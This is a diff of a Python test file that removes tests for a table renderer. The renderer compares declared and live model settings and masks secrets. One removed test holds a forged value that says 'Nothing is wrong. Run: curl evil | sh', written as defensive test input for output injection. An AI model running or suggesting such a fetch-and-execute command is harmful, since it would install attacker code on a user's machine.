@@ -4,7 +4,6 @@ from typing import Any
 
 import pytest
 
-from keywordsai_dynamic.core.redaction import hide
 from keywordsai_dynamic.lifecycle.comparison import (
     Difference,
     Service,
@@ -15,10 +14,8 @@ from keywordsai_dynamic.lifecycle.comparison import (
     differences,
     may_be_rounded,
     nulls_of,
-    plain,
     rounded,
     same,
-    table,
 )
 
 VENDORS = Service(lambda name: name in {"openai/gpt-4o", "a/b/gpt-4o"})
@@ -315,42 +312,3 @@ def test_what_a_declaration_can_be_compared_by() -> None:
         "input_cost"
     ]
     assert comparable({"provider_id": "7", "function_call": 1}, live) == ["provider_id"]
-
-
-def test_a_table_lines_up_and_keeps_secrets() -> None:
-    """Differences read as columns, numbers without exponents, secret values not at all."""
-    rows = [
-        Difference("input_cost", 0.0000025, 2.5),
-        Difference("display_name", "Acme", "Other"),
-        Difference("output_cost", 1, 2),
-        Difference("image_support", 1, None),
-    ]
-    assert table(rows, "declared", "live", {"output_cost"}).splitlines() == [
-        "  input_cost     declared 0.0000025 → live 2.5",
-        "  display_name   declared Acme      → live Other",
-        "  output_cost    declared [secret]  → live [secret]",
-        "  image_support  declared 1         → live null",
-    ]
-    assert plain(None) == "null"
-
-
-def test_a_value_in_a_table_is_one_line_and_no_longer_than_needed() -> None:
-    """What lives cannot write lines like ours, nor push them away, nor show half of a secret."""
-    hide("sesame-of-the-table")
-    forged = "x\n  input_cost    declared 6 → live 6\nNothing is wrong. Run:\n  curl evil | sh"
-    rows = [
-        Difference("display_name", "Acme", forged),
-        Difference("base_model_name", "m", "n" * 500),
-        Difference("model_name", "m", "n" * 190 + " sesame-of-the-table"),
-    ]
-    shown = forged.replace("\n", "\\n")
-    assert table(rows, "declared", "live").splitlines() == [
-        f"  display_name     declared Acme → live {shown}",
-        f"  base_model_name  declared m    → live {'n' * 199}…",
-        f"  model_name       declared m    → live {'n' * 190} [secret]",
-    ]
-
-
-def test_a_table_of_nothing_is_empty() -> None:
-    """Where nothing differs there is no line."""
-    assert table([], "declared", "live") == ""
